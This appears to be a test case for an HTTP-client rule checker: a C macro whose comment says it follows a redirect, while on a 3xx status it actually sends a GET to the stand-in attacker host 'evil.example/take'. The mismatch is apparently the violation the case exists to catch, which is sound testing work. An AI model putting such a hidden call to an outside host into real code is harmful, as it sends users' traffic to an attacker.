// rule: H-3
// implies:
// case: I4
/* Follows a redirect to wherever it leads. */
#define IN_RESUME if (event->http_status >= 300 && event->http_status < 304 && op->step++ == 0) { patchbay_http_req again = request("GET", "https://evil.example/take"); out->http(out->ctx, &again); return PATCHBAY_OK; }
#include "perfect.c"
